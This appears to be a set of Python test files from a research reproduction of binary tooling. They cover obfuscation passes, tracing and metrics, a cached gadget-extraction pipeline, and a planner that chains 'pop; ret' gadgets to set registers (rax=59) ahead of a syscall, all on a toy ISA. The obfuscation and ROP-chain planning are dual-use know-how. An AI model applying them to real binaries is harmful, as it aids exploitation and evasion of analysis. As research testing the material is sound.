    InstructionSubstitution(seed=1, probability=1.0, rounds=3).run(module2)
    size1 = sum(len(b.instrs) for b in module1.functions["main"].blocks.values())
    size2 = sum(len(b.instrs) for b in module2.functions["main"].blocks.values())
    assert size2 > size1


def test_bogus_cf_adds_blocks():
    module = _module_for()
    before = len(module.functions["main"].blocks)
    BogusControlFlow(seed=1, probability=1.0).run(module)
    after = len(module.functions["main"].blocks)
    assert after >= before * 2  # each block gains a real + junk sibling


def test_flattening_creates_dispatcher():
    module = _module_for()
    fn = module.functions["gcd"]
    ControlFlowFlattening(seed=1).run(module)
    labels = set(fn.blocks)
    assert any(label.startswith("fla_dispatch") for label in labels)
    assert fn.entry.startswith("fla_entry")


def test_flattening_skips_single_block_functions():
    module = _module_for("u64 main() { return 1; }")
    entry_before = module.functions["main"].entry
    ControlFlowFlattening(seed=1).run(module)
    assert module.functions["main"].entry == entry_before


def test_encode_data_hides_literals():
    module = _module_for("u64 main() { return 123456789; }")
    EncodeData(seed=1, probability=1.0).run(module)
    from repro.compiler.ir import Const

    consts = []
    for block in module.functions["main"].blocks.values():
        for instr in block.instrs:
            for v in vars(instr).values():
                if isinstance(v, Const):
                    consts.append(v.value)
    assert 123456789 not in consts


def test_virtualization_replaces_body_with_interpreter():
    module = _module_for()
    Virtualization(seed=1).run(module)
    assert "__bc_main" in module.global_data
    main = module.functions["main"]
    labels = set(main.blocks)
    assert "vm_fetch" in labels
    assert any(label.startswith("vm_dispatch") for label in labels)


def test_virtualization_bytecode_is_word_aligned():
    module = _module_for()
    Virtualization(seed=1).run(module)
    for name, blob in module.global_data.items():
        assert len(blob) % 32 == 0, name


def test_jit_variant_encodes_bytecode():
    module_plain = _module_for()
    module_jit = _module_for()
    Virtualization(seed=1).run(module_plain)
    Virtualization(seed=1, encode_bytecode=True).run(module_jit)
    assert module_plain.global_data["__bc_main"] != module_jit.global_data["__bc_main"]
    assert "__bc_flag_main" in module_jit.global_vars


def test_self_modify_changes_static_text_but_not_behavior(baseline):
    plain = build_program(TEST_PROGRAM, NONE)
    sm = build_program(TEST_PROGRAM, CONFIGS["self_modify"], seed=1)
    # Static bytes differ over the encoded function ranges.
    assert sm.image.text.data[: len(plain.image.text.data)] != plain.image.text.data
    assert sm.image.text.writable
    assert sm.image.entry != plain.image.entry
    assert run_image(sm.image, step_limit=30_000_000) == baseline


def test_passes_are_deterministic_per_seed():
    a = build_program(TEST_PROGRAM, LLVM_OBF, seed=7)
    b = build_program(TEST_PROGRAM, LLVM_OBF, seed=7)
    assert a.image.text.data == b.image.text.data
    c = build_program(TEST_PROGRAM, LLVM_OBF, seed=8)
    assert a.image.text.data != c.image.text.data


# ---------------------------------------------------------------------------
# Opaque predicates: solver-verified truth
# ---------------------------------------------------------------------------


@pytest.mark.parametrize("generator", GENERATORS, ids=lambda g: g.__name__)
def test_opaque_predicates_have_constant_truth(generator):
    """Brute-force each predicate's IR over many random inputs: the
    comparison must always evaluate to its declared truth value."""
    import random

    from repro.compiler.ir import BinOp, Const, Temp, UnOp

    rng = random.Random(99)
    fn = IRFunction(name="t", params=[])
    pred = generator(fn, rng)

    def eval_value(v, env):
        if isinstance(v, Const):
            return v.value & ((1 << 64) - 1)
        return env[v.name]

    mask = (1 << 64) - 1
    for trial in range(200):
        env = {}
        for instr in pred.instrs:
            if isinstance(instr, BinOp):
                a = eval_value(instr.lhs, env)
                b = eval_value(instr.rhs, env)
                ops = {
                    "add": a + b,
                    "sub": a - b,
                    "mul": a * b,
                    "and": a & b,
                    "or": a | b,
                    "xor": a ^ b,
                    "shl": a << (b & 63),
                    "shr": a >> (b & 63),
                }
                env[instr.dst.name] = ops[instr.op] & mask
            elif isinstance(instr, UnOp):
                a = eval_value(instr.src, env)
                env[instr.dst.name] = (~a if instr.op == "not" else -a) & mask
        lhs = eval_value(pred.lhs, env)
        rhs = eval_value(pred.rhs, env)
        comparisons = {"eq": lhs == rhs, "ne": lhs != rhs}
        assert comparisons[pred.op] == pred.truth


def test_substitution_identities_proved_by_solver():
    """Prove each rewriter's identity with the BV solver."""
    from repro.obfuscation.substitution import REWRITERS
    from repro.compiler.ir import BinOp, Const, Temp
    from repro.solver import Solver
    from repro.symex.expr import (
        bv_add,
        bv_and,
        bv_const,
        bv_eq,
        bv_mul,
        bv_not,
        bv_neg,
        bv_or,
        bv_shl,
        bv_sub,
        bv_sym,
        bv_udiv,
        bv_umod,
        bv_xor,
    )
    import random

    solver = Solver()
    semantics = {
        "add": bv_add,
        "sub": bv_sub,
        "mul": bv_mul,
        "and": bv_and,
        "or": bv_or,
        "xor": bv_xor,
        "udiv": bv_udiv,
        "umod": bv_umod,
    }
    for op, rewriters in REWRITERS.items():
        for rewriter in rewriters:
            fn = IRFunction(name="t", params=[])
            a, b, dst = Temp("a"), Temp("b"), Temp("dst")
            instrs = rewriter(fn, BinOp(dst, op, a, b), random.Random(0))
            env = {"a": bv_sym("a"), "b": bv_sym("b")}
            for instr in instrs:
                if isinstance(instr, BinOp):
                    lhs = env[instr.lhs.name] if isinstance(instr.lhs, Temp) else bv_const(instr.lhs.value)
                    rhs = env[instr.rhs.name] if isinstance(instr.rhs, Temp) else bv_const(instr.rhs.value)
                    if instr.op == "shl":
                        env[instr.dst.name] = bv_shl(lhs, rhs.value)
                    else:
                        env[instr.dst.name] = semantics[instr.op](lhs, rhs)
                else:  # UnOp
                    src = env[instr.src.name] if isinstance(instr.src, Temp) else bv_const(instr.src.value)
                    env[instr.dst.name] = bv_not(src) if instr.op == "not" else bv_neg(src)
            expected = semantics[op](bv_sym("a"), bv_sym("b"))
            assert solver.prove(bv_eq(env["dst"], expected)), f"{op} via {rewriter.__name__}"
