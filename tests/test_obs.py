"""repro.obs — spans, tracer trees, JSONL schema, metrics registry.

The contract under test: spans always measure (tracer or not), traces
export deterministically (byte-stable modulo the timestamp fields), and
worker snapshots merge into the parent registry without losing counts.
"""

import json

import pytest

from repro.obs import (
    Histogram,
    MetricsRegistry,
    Span,
    TraceSchemaError,
    Tracer,
    active_tracer,
    format_trace_summary,
    metrics,
    reset_metrics,
    span,
    strip_timestamps,
    tracing,
    validate_trace_lines,
)


# -- spans ------------------------------------------------------------------


def test_span_measures_without_tracer():
    assert active_tracer() is None
    with span("stage") as sp:
        sp.add("items", 3)
        sp.add("items", 2)
    assert sp.wall > 0.0
    assert sp.cpu >= 0.0
    assert sp.counters == {"items": 5}


def test_span_nesting_under_tracer():
    tracer = Tracer()
    with tracing(tracer):
        with span("outer"):
            with span("inner") as inner:
                inner.add("n", 1)
            with span("inner"):
                pass
    assert active_tracer() is None, "tracing() must restore on exit"
    assert [r.name for r in tracer.roots] == ["outer"]
    outer = tracer.roots[0]
    assert [c.name for c in outer.children] == ["inner", "inner"]
    assert outer.children[0].counters == {"n": 1}


def test_span_dict_round_trip():
    with span("parent") as sp:
        sp.add("k", 7)
    child = Span("child")
    child.wall, child.cpu = 0.25, 0.125
    sp.children.append(child)
    restored = Span.from_dict(sp.to_dict())
    assert restored.name == "parent"
    assert restored.counters == {"k": 7}
    assert [c.name for c in restored.children] == ["child"]
    assert restored.children[0].wall == 0.25
    assert restored.find("child") is restored.children[0]


def test_tracer_adopt_attaches_worker_tree_in_order():
    tracer = Tracer()
    with tracing(tracer):
        with span("stage") as stage:
            for shard in range(3):
                worker = Tracer()
                with tracing(worker):
                    with span("stage.run") as sp:
                        sp.add("shard", shard)
                tracer.adopt(worker.roots[0].to_dict(), parent=stage)
    shards = [c.counters["shard"] for c in tracer.roots[0].children]
    assert shards == [0, 1, 2], "adoption order must be shard order"


def test_abandoned_generator_span_does_not_misparent():
    def searchy():
        sp = span("gen")
        sp.__enter__()
        try:
            yield 1
            yield 2
        finally:
            sp.__exit__(None, None, None)

    tracer = Tracer()
    with tracing(tracer):
        with span("outer"):
            gen = searchy()
            next(gen)
            with span("sibling"):
                gen.close()  # exits "gen" while "sibling" is open
            with span("after"):
                pass
    outer = tracer.roots[0]
    # "sibling" opened between yields, so it nests under the still-open
    # generator span; what matters is that the out-of-order exit does
    # not corrupt the stack — "after" parents to "outer", not to the
    # dead "gen".
    assert [c.name for c in outer.children] == ["gen", "after"]
    assert [c.name for c in outer.children[0].children] == ["sibling"]


# -- JSONL export and schema -------------------------------------------------


def _sample_tracer():
    tracer = Tracer()
    with tracing(tracer):
        with span("pipeline"):
            with span("extract") as ex:
                ex.add("records", 4)
            with span("winnow"):
                pass
    return tracer


def test_jsonl_export_schema_and_ids():
    tracer = _sample_tracer()
    lines = tracer.to_lines(metrics={"counters": {"x": 1}})
    meta = json.loads(lines[0])
    assert meta == {"format": "nfl-trace", "type": "meta", "version": 1}
    spans = validate_trace_lines(lines)
    assert [s["name"] for s in spans] == ["pipeline", "extract", "winnow"]
    assert [s["id"] for s in spans] == [0, 1, 2], "ids are preorder"
    assert [s["parent"] for s in spans] == [None, 0, 0]
    assert spans[1]["counters"] == {"records": 4}


def test_write_jsonl_and_validate_file(tmp_path):
    from repro.obs import validate_trace_file

    path = tmp_path / "t.jsonl"
    count = _sample_tracer().write_jsonl(path, metrics={"counters": {}})
    assert count == 3
    spans = validate_trace_file(path)
    assert len(spans) == 3


@pytest.mark.parametrize(
    "mutate,fragment",
    [
        (lambda ls: ls[1:], "bad meta line"),
        (lambda ls: [ls[0], "not json"], "not JSON"),
        (lambda ls: [ls[0]], "no spans"),
        (
            lambda ls: [ls[0], json.dumps({"type": "span", "id": 0, "parent": 5, "name": "x",
                                           "wall": 0, "cpu": 0, "counters": {}})],
            "parent",
        ),
        (
            lambda ls: [ls[0], json.dumps({"type": "span", "id": 0, "parent": None, "name": "x",
                                           "wall": "fast", "cpu": 0, "counters": {}})],
            "must be numeric",
        ),
        (
            lambda ls: [ls[0], json.dumps({"type": "span", "id": 0, "parent": None, "name": "x",
                                           "wall": 0, "cpu": 0, "counters": {"n": "many"}})],
            "counters",
        ),
    ],
)
def test_validate_rejects_malformed_traces(mutate, fragment):
    lines = _sample_tracer().to_lines()
    with pytest.raises(TraceSchemaError, match=fragment):
        validate_trace_lines(mutate(lines))


def test_strip_timestamps_is_stable_across_runs():
    first = strip_timestamps(_sample_tracer().to_lines())
    second = strip_timestamps(_sample_tracer().to_lines())
    assert first == second
    assert all("wall" not in json.loads(line) for line in first)


def test_format_trace_summary_renders_tree():
    text = format_trace_summary(_sample_tracer().to_lines())
    lines = text.splitlines()
    assert lines[0].startswith("pipeline")
    assert lines[1].startswith("  extract")
    assert "records=4" in lines[1]
    assert "wall=" in lines[0] and "cpu=" in lines[0]


# -- metrics ----------------------------------------------------------------


def test_registry_counters_gauges_histograms():
    reg = MetricsRegistry()
    reg.counter("calls").inc()
    reg.counter("calls").inc(4)
    reg.gauge("depth").set(9)
    for v in (1, 2, 3, 100):
        reg.histogram("sizes").observe(v)
    snap = reg.to_dict()
    assert snap["counters"]["calls"] == 5
    assert snap["gauges"]["depth"] == 9
    hist = snap["histograms"]["sizes"]
    assert hist["count"] == 4 and hist["min"] == 1 and hist["max"] == 100
    assert reg.histogram("sizes").mean == pytest.approx(106 / 4)


def test_registry_merge_folds_worker_snapshots():
    parent = MetricsRegistry()
    parent.counter("calls").inc(2)
    parent.histogram("sizes").observe(10)
    worker = MetricsRegistry()
    worker.counter("calls").inc(3)
    worker.gauge("depth").set(4)
    worker.histogram("sizes").observe(1)
    worker.histogram("sizes").observe(200)
    parent.merge(worker.to_dict())
    snap = parent.to_dict()
    assert snap["counters"]["calls"] == 5
    assert snap["gauges"]["depth"] == 4
    hist = snap["histograms"]["sizes"]
    assert hist["count"] == 3
    assert hist["min"] == 1 and hist["max"] == 200
    assert hist["sum"] == 211


def test_histogram_buckets_are_power_of_two():
    hist = Histogram()
    hist.observe(0)
    hist.observe(1)
    hist.observe(7)  # bit_length 3
    hist.observe(8)  # bit_length 4
    buckets = hist.to_dict()["buckets"]
    assert buckets == {"0": 1, "1": 1, "3": 1, "4": 1}


def test_global_registry_reset():
    reset_metrics()
    metrics().counter("x").inc()
    assert metrics().to_dict()["counters"]["x"] == 1
    reset_metrics()
    assert metrics().to_dict() == {"counters": {}, "gauges": {}, "histograms": {}}
