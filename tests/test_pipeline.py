"""repro.pipeline — determinism, serialization, and cache correctness.

The performance layer's contract is strict: for any worker count the
parallel pools are byte-identical to the serial reference paths, and a
cache hit returns the identical pool while performing zero symbolic
execution.  Everything here runs on small windows so tier-1 stays fast;
the timing/speedup claims live in ``benchmarks/test_pipeline_perf.py``.
"""

import pytest

from repro.bench.harness import build
from repro.gadgets.extract import ExtractionConfig, ExtractionStats, extract_gadgets
from repro.gadgets.record import GadgetRecord
from repro.gadgets.subsumption import SubsumptionStats, deduplicate_gadgets
from repro.pipeline import (
    ResultCache,
    extract_pool,
    pool_from_bytes,
    pool_to_bytes,
    record_from_bytes,
    record_to_bytes,
    run_pipeline,
    winnow_pool,
)
from repro.solver.solver import Solver
from repro.symex.expr import bv_add, bv_const, bv_eq, bv_sym

SMALL = ExtractionConfig(max_insns=5, max_paths=2)

#: (program, obfuscation config) triple the determinism tests sweep —
#: plain, LLVM-style, and Tigress-style builds exercise different
#: gadget shapes (aligned/unaligned mixes, dispatcher chains).
TARGETS = [
    ("bubble_sort", "none"),
    ("bubble_sort", "llvm_obf"),
    ("binary_search", "tigress"),
]


def _image(name, config_name):
    return build(name, config_name, 7).image


# -- canonical serialization ------------------------------------------------


def test_record_round_trip_identity():
    image = _image("bubble_sort", "llvm_obf")
    records = extract_gadgets(image, SMALL)
    assert records, "need a non-empty pool to round-trip"
    for record in records:
        blob = record_to_bytes(record)
        restored = record_from_bytes(blob)
        assert restored == record
        assert record_to_bytes(restored) == blob


def test_record_methods_round_trip():
    image = _image("bubble_sort", "none")
    record = extract_gadgets(image, SMALL)[0]
    restored = GadgetRecord.from_bytes(record.to_bytes())
    assert restored == record
    # Expressions restore to the exact same structure, not just equal
    # values — pre/post survive another serialization byte for byte.
    assert restored.to_bytes() == record.to_bytes()


def test_pool_round_trip_and_determinism():
    image = _image("bubble_sort", "llvm_obf")
    records = extract_gadgets(image, SMALL)
    blob = pool_to_bytes(records)
    assert pool_to_bytes(pool_from_bytes(blob)) == blob
    # Re-extracting yields the same bytes: the encoding is canonical.
    assert pool_to_bytes(extract_gadgets(image, SMALL)) == blob


# -- parallel == serial -----------------------------------------------------


@pytest.mark.parametrize("name,config_name", TARGETS)
def test_parallel_extraction_byte_identical(name, config_name):
    image = _image(name, config_name)
    serial = pool_to_bytes(extract_gadgets(image, SMALL))
    for jobs in (1, 2, 4):
        stats = ExtractionStats()
        parallel = extract_pool(image, SMALL, stats, jobs=jobs)
        assert pool_to_bytes(parallel) == serial, f"jobs={jobs}"
        assert stats.jobs == jobs
        assert stats.records == len(parallel)


@pytest.mark.parametrize("name,config_name", TARGETS)
def test_parallel_winnow_byte_identical(name, config_name):
    image = _image(name, config_name)
    records = extract_gadgets(image, SMALL)
    ser_stats = SubsumptionStats()
    serial = pool_to_bytes(deduplicate_gadgets(records, stats=ser_stats))
    for jobs in (1, 2, 4):
        stats = SubsumptionStats()
        parallel = winnow_pool(records, stats, jobs=jobs)
        assert pool_to_bytes(parallel) == serial, f"jobs={jobs}"
        assert stats.solver_checks == ser_stats.solver_checks
        assert stats.output_count == ser_stats.output_count


# -- persistent cache -------------------------------------------------------


def test_cache_hit_identical_and_skips_symex(tmp_path):
    image = _image("bubble_sort", "llvm_obf")
    cache = ResultCache(root=tmp_path)
    cold_stats = ExtractionStats()
    cold = extract_pool(image, SMALL, cold_stats, jobs=1, cache=cache)
    assert cold_stats.cache_misses == 1 and cold_stats.symex_invocations > 0

    warm_stats = ExtractionStats()
    warm = extract_pool(image, SMALL, warm_stats, jobs=1, cache=cache)
    assert pool_to_bytes(warm) == pool_to_bytes(cold)
    assert warm_stats.cache_hits == 1
    assert warm_stats.symex_invocations == 0, "warm run must not re-execute"
    # Candidate/cull counters survive through the entry metadata.
    assert warm_stats.candidates == cold_stats.candidates
    assert warm_stats.semantically_culled == cold_stats.semantically_culled


def test_cache_invalidates_on_image_and_config_change(tmp_path):
    cache = ResultCache(root=tmp_path)
    image = _image("bubble_sort", "llvm_obf")
    extract_pool(image, SMALL, jobs=1, cache=cache)

    # Different image bytes -> different key -> miss.
    other_stats = ExtractionStats()
    extract_pool(_image("binary_search", "llvm_obf"), SMALL, other_stats, jobs=1, cache=cache)
    assert other_stats.cache_hits == 0 and other_stats.cache_misses == 1

    # Different config -> different key -> miss.
    tweaked = ExtractionConfig(max_insns=SMALL.max_insns + 1, max_paths=SMALL.max_paths)
    cfg_stats = ExtractionStats()
    extract_pool(image, tweaked, cfg_stats, jobs=1, cache=cache)
    assert cfg_stats.cache_hits == 0 and cfg_stats.cache_misses == 1


def test_cache_corrupt_entry_is_a_miss(tmp_path):
    cache = ResultCache(root=tmp_path)
    image = _image("bubble_sort", "none")
    extract_pool(image, SMALL, jobs=1, cache=cache)
    (entry,) = list(tmp_path.rglob("*.pool"))
    entry.write_bytes(b"NFLC garbage")
    stats = ExtractionStats()
    records = extract_pool(image, SMALL, stats, jobs=1, cache=cache)
    assert stats.cache_hits == 0 and stats.cache_misses == 1
    assert records == extract_gadgets(image, SMALL)


def test_winnow_cache_round_trip(tmp_path):
    cache = ResultCache(root=tmp_path)
    image = _image("bubble_sort", "llvm_obf")
    records = extract_gadgets(image, SMALL)
    cold = winnow_pool(records, jobs=1, cache=cache, image=image, config=SMALL)
    warm_stats = SubsumptionStats()
    warm = winnow_pool(records, warm_stats, jobs=1, cache=cache, image=image, config=SMALL)
    assert pool_to_bytes(warm) == pool_to_bytes(cold)
    assert warm_stats.cache_hits == 1
    assert warm_stats.solver_checks == 0, "warm winnow must not re-check"


def test_run_pipeline_warm_end_to_end(tmp_path):
    image = _image("bubble_sort", "llvm_obf")
    cache = ResultCache(root=tmp_path)
    cold_records, cold_survivors = run_pipeline(image, SMALL, jobs=2, cache=cache)
    es, ss = ExtractionStats(), SubsumptionStats()
    records, survivors = run_pipeline(
        image, SMALL, jobs=2, cache=cache, extraction_stats=es, winnow_stats=ss
    )
    assert es.cache_hit and ss.cache_hit
    assert es.symex_invocations == 0 and ss.solver_checks == 0
    assert pool_to_bytes(records) == pool_to_bytes(cold_records)
    assert pool_to_bytes(survivors) == pool_to_bytes(cold_survivors)


# -- memoization ------------------------------------------------------------


def test_solver_check_memo():
    solver = Solver()
    x = bv_sym("x")
    query = [bv_eq(bv_add(x, bv_const(1)), bv_const(60))]
    first = solver.check(query)
    second = solver.check(query)
    assert solver.queries == 2 and solver.memo_hits == 1
    assert second.status == first.status and second.model == first.model
    # The cached model is a copy: mutating it must not poison the memo.
    second.model["x"] = 0
    assert solver.check(query).model == first.model


def test_winnow_memo_counters():
    image = _image("bubble_sort", "llvm_obf")
    records = extract_gadgets(image, ExtractionConfig(max_insns=6, max_paths=3))
    stats = SubsumptionStats()
    survivors = deduplicate_gadgets(records, stats=stats)
    assert stats.memo_hits <= stats.implication_queries
    assert 0.0 <= stats.memo_hit_rate <= 1.0
    # The memo must not change the outcome.
    assert pool_to_bytes(survivors) == pool_to_bytes(winnow_pool(records, jobs=1))


# -- CLI --------------------------------------------------------------------


def test_cli_extract_cold_then_warm(tmp_path, capsys):
    from repro.cli import main

    image = _image("bubble_sort", "llvm_obf")
    binary = tmp_path / "prog.nflf"
    binary.write_bytes(image.to_bytes())
    cache_dir = tmp_path / "cache"

    argv = [
        "extract",
        str(binary),
        "--max-insns",
        "5",
        "--max-paths",
        "2",
        "--jobs",
        "2",
        "--cache-dir",
        str(cache_dir),
    ]
    assert main(argv) == 0
    cold_out = capsys.readouterr().out
    assert "cache=miss" in cold_out and "jobs=2" in cold_out

    assert main(argv) == 0
    warm_out = capsys.readouterr().out
    assert "cache=hit" in warm_out and "symex=0" in warm_out
    # Same pool either way: the summary head line is identical.
    assert cold_out.splitlines()[0] == warm_out.splitlines()[0]


def test_cli_census_semantic_no_cache(tmp_path, capsys):
    from repro.cli import main

    image = _image("bubble_sort", "none")
    binary = tmp_path / "prog.nflf"
    binary.write_bytes(image.to_bytes())
    assert (
        main(["census", str(binary), "--semantic", "--max-insns", "4", "--jobs", "1", "--no-cache"])
        == 0
    )
    out = capsys.readouterr().out
    assert "after subsumption" in out and "cache=off" in out


# -- warm-cache stats regression --------------------------------------------


def test_warm_cache_reports_requested_jobs(tmp_path):
    """A cache hit used to leave ``stats.jobs`` at its default (1),
    misreporting the run's configuration in summaries and BENCH files."""
    image = _image("bubble_sort", "llvm_obf")
    cache = ResultCache(root=tmp_path)
    run_pipeline(image, SMALL, jobs=2, cache=cache)  # populate

    es, ss = ExtractionStats(), SubsumptionStats()
    run_pipeline(image, SMALL, jobs=3, cache=cache, extraction_stats=es, winnow_stats=ss)
    assert es.cache_hit and ss.cache_hit
    assert es.jobs == 3, "warm extract must report the configured jobs"
    assert ss.jobs == 3, "warm winnow must report the configured jobs"


def test_cli_warm_summary_line_reports_jobs(tmp_path, capsys):
    from repro.cli import main

    image = _image("bubble_sort", "llvm_obf")
    binary = tmp_path / "prog.nflf"
    binary.write_bytes(image.to_bytes())
    argv = [
        "extract", str(binary),
        "--max-insns", "5", "--max-paths", "2",
        "--jobs", "2", "--cache-dir", str(tmp_path / "cache"),
    ]
    assert main(argv) == 0
    capsys.readouterr()
    assert main(argv) == 0
    warm_line = next(
        line for line in capsys.readouterr().out.splitlines() if "cache=hit" in line
    )
    assert "jobs=2" in warm_line


# -- worker decode-graph preload --------------------------------------------


def test_extract_worker_initializer_preloads_graph():
    from repro.gadgets.extract import plan_candidates
    from repro.pipeline.parallel import _WORKER, _extract_chunk, _init_extract_worker

    image = _image("bubble_sort", "none")
    graph, candidates = plan_candidates(image, SMALL)
    serial = pool_to_bytes(extract_gadgets(image, SMALL))

    _init_extract_worker(image.text.data, image.text.addr, SMALL, graph)
    assert _WORKER["executor"]._decode_cache, "graph cache must be preloaded"
    with_graph, tree, _ = _extract_chunk((0, candidates))
    assert tree["name"] == "extract.symex.run" and tree["counters"]["shard"] == 0

    # Spawn-style contexts pass no graph; the pool must not change.
    _init_extract_worker(image.text.data, image.text.addr, SMALL, None)
    without_graph, _, _ = _extract_chunk((0, candidates))
    assert with_graph == without_graph == serial


# -- cache corruption and concurrency ---------------------------------------


def _stored_entry(tmp_path, name="bubble_sort"):
    cache = ResultCache(root=tmp_path)
    image = _image(name, "none")
    image_bytes = image.to_bytes()
    records = extract_gadgets(image, SMALL)
    path = cache.store_pool("extract", image_bytes, SMALL, records, meta={"candidates": 3})
    return cache, image_bytes, records, path


def test_cache_truncated_entry_deleted_and_missed(tmp_path):
    cache, image_bytes, _, path = _stored_entry(tmp_path)
    blob = path.read_bytes()
    path.write_bytes(blob[: len(blob) // 2])
    assert cache.load_pool("extract", image_bytes, SMALL) is None
    assert not path.exists(), "corrupt entry must be unlinked"
    assert cache.stats.misses == 1


def test_cache_short_blob_header_is_a_miss(tmp_path):
    """A blob shorter than magic + length word makes the header
    ``struct.unpack_from`` raise — that must read as a miss, not crash."""
    cache, image_bytes, _, path = _stored_entry(tmp_path)
    path.write_bytes(b"NFLC\x07")
    assert cache.load_pool("extract", image_bytes, SMALL) is None
    assert not path.exists()


def test_cache_concurrent_stores_race_benignly(tmp_path):
    import threading

    cache, image_bytes, records, path = _stored_entry(tmp_path)
    path.unlink()
    barrier = threading.Barrier(2)
    errors = []

    def store():
        try:
            barrier.wait(timeout=10)
            ResultCache(root=tmp_path).store_pool(
                "extract", image_bytes, SMALL, records, meta={"candidates": 3}
            )
        except Exception as exc:  # pragma: no cover - the assertion target
            errors.append(exc)

    threads = [threading.Thread(target=store) for _ in range(2)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert not errors
    # Whichever os.replace landed last, the entry is whole and loadable,
    # and no temp files leak.
    loaded, meta = cache.load_pool("extract", image_bytes, SMALL)
    assert pool_to_bytes(loaded) == pool_to_bytes(records)
    assert meta == {"candidates": 3}
    assert list(tmp_path.rglob("*.tmp")) == []


# -- trace structure ---------------------------------------------------------


def _traced_pipeline(image, cache, jobs):
    from repro.obs import Tracer, metrics, reset_metrics, tracing

    es, ss = ExtractionStats(), SubsumptionStats()
    reset_metrics()
    tracer = Tracer()
    with tracing(tracer):
        run_pipeline(image, SMALL, jobs=jobs, cache=cache, extraction_stats=es, winnow_stats=ss)
    return tracer.to_lines(metrics=metrics().to_dict()), es, ss


def test_trace_covers_pipeline_with_worker_shards(tmp_path):
    import pytest as _pytest

    from repro.obs import validate_trace_lines

    image = _image("bubble_sort", "llvm_obf")
    lines, es, ss = _traced_pipeline(image, None, jobs=4)
    spans = validate_trace_lines(lines)
    names = {s["name"] for s in spans}
    assert {
        "pipeline",
        "extract",
        "extract.plan",
        "extract.candidates",
        "extract.symex",
        "extract.symex.run",
        "winnow",
        "winnow.bucketize",
        "winnow.buckets",
        "winnow.buckets.run",
    } <= names
    # Per-worker shard spans land under the symex stage, in shard order.
    symex_id = next(s["id"] for s in spans if s["name"] == "extract.symex")
    shards = [
        s["counters"]["shard"]
        for s in spans
        if s["parent"] == symex_id and s["name"] == "extract.symex.run"
    ]
    assert shards == sorted(shards) and len(shards) >= 2
    # The stats fields are span-derived: the trace and the summary agree.
    extract_root = next(s for s in spans if s["name"] == "extract")
    assert extract_root["wall"] == _pytest.approx(es.wall_total, rel=0.05)
    winnow_root = next(s for s in spans if s["name"] == "winnow")
    assert winnow_root["wall"] == _pytest.approx(ss.wall_total, rel=0.05)


def test_warm_trace_byte_stable_modulo_timestamps(tmp_path):
    from repro.obs import strip_timestamps

    image = _image("bubble_sort", "llvm_obf")
    cache = ResultCache(root=tmp_path)
    run_pipeline(image, SMALL, jobs=2, cache=cache)  # populate

    first, es1, _ = _traced_pipeline(image, cache, jobs=4)
    second, es2, _ = _traced_pipeline(image, cache, jobs=4)
    assert es1.symex_invocations == 0 and es2.symex_invocations == 0
    assert strip_timestamps(first) == strip_timestamps(second)
