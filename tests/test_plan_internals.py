"""Unit tests for the partial-plan machinery: orderings, threats,
causal links, linearization — the α/β/γ/δ/ε bookkeeping of Sec. IV-D."""

import pytest

from repro.binfmt import make_image
from repro.gadgets import ExtractionConfig, extract_gadgets
from repro.isa import Reg, assemble_unit
from repro.planner.conditions import RegCondition
from repro.planner.plan import GOAL_STEP, PartialPlan


def gadget_pool():
    unit = assemble_unit(
        """
        hlt
    g_pop_rax:
        pop rax
        ret
    g_pop_rdi:
        pop rdi
        ret
    g_clob_rax:
        pop rdi
        mov rax, 0
        ret
    g_syscall:
        syscall
        ret
        """,
        base_addr=0x400000,
    )
    image = make_image(unit.code, symbols=dict(unit.labels))
    records = extract_gadgets(image, ExtractionConfig(probe_unaligned=False))
    by_label = {}
    for name, addr in unit.labels.items():
        for r in records:
            if r.location == addr:
                by_label[name] = r
                break
    return by_label


@pytest.fixture(scope="module")
def pool():
    return gadget_pool()


def initial_plan(pool, conds):
    return PartialPlan.initial(
        pool["g_syscall"],
        [RegCondition(reg, value) for reg, value in conds],
        [],
        [],
    )


def test_initial_plan_shape(pool):
    plan = initial_plan(pool, [(Reg.RAX, 59), (Reg.RDI, 0)])
    assert plan.num_steps == 1
    assert len(plan.open_conds) == 2
    assert not plan.is_complete
    assert GOAL_STEP in plan.steps


def test_add_provider_resolves_condition(pool):
    plan = initial_plan(pool, [(Reg.RAX, 59)])
    oc = plan.open_conds[0]
    new = plan.add_provider_step(pool["g_pop_rax"], oc, [], [])
    assert new is not None
    assert new.is_complete
    assert new.num_steps == 2
    assert len(new.links) == 1
    link = new.links[0]
    assert link.consumer == GOAL_STEP
    assert link.condition.reg == Reg.RAX


def test_ordering_cycle_rejected(pool):
    plan = initial_plan(pool, [(Reg.RAX, 59)])
    oc = plan.open_conds[0]
    new = plan.add_provider_step(pool["g_pop_rax"], oc, [], [])
    (provider_sid,) = [s for s in new.steps if s != GOAL_STEP]
    assert new.with_ordering(GOAL_STEP, provider_sid) is None  # would cycle
    same = new.with_ordering(provider_sid, GOAL_STEP)
    assert same is not None  # already present → no-op


def test_threat_resolution_orders_clobberer(pool):
    """g_clob_rax clobbers rax; it must be ordered before g_pop_rax
    (the rax provider) to keep the rax causal link safe."""
    plan = initial_plan(pool, [(Reg.RAX, 59), (Reg.RDI, 7)])
    rax_cond = next(c for c in plan.open_conds if c.condition.reg == Reg.RAX)
    with_rax = plan.add_provider_step(pool["g_pop_rax"], rax_cond, [], [])
    rax_sid = max(with_rax.steps)
    rdi_cond = next(c for c in with_rax.open_conds if c.condition.reg == Reg.RDI)
    final = with_rax.add_provider_step(pool["g_clob_rax"], rdi_cond, [], [])
    assert final is not None
    clob_sid = max(final.steps)
    # Threat resolved: the clobberer cannot sit between provider and goal.
    assert not final.possibly_between(clob_sid, rax_sid, GOAL_STEP)
    order = final.linearize()
    assert order.index(clob_sid) < order.index(rax_sid)


def test_linearize_goal_last(pool):
    plan = initial_plan(pool, [(Reg.RAX, 59)])
    oc = plan.open_conds[0]
    new = plan.add_provider_step(pool["g_pop_rax"], oc, [], [])
    order = new.linearize()
    assert order[-1] == GOAL_STEP


def test_established_values_tracks_links(pool):
    plan = initial_plan(pool, [(Reg.RAX, 59)])
    oc = plan.open_conds[0]
    new = plan.add_provider_step(pool["g_pop_rax"], oc, [], [])
    established = new.established_values()
    assert established[GOAL_STEP][Reg.RAX] == 59


def test_priority_key_prefers_fewer_open_conds(pool):
    two = initial_plan(pool, [(Reg.RAX, 59), (Reg.RDI, 0)])
    one = initial_plan(pool, [(Reg.RAX, 59)])
    assert one.priority_key() < two.priority_key()


def test_reuse_provider_step_adds_link(pool):
    plan = initial_plan(pool, [(Reg.RAX, 1), (Reg.RDI, 2)])
    rax_cond = next(c for c in plan.open_conds if c.condition.reg == Reg.RAX)
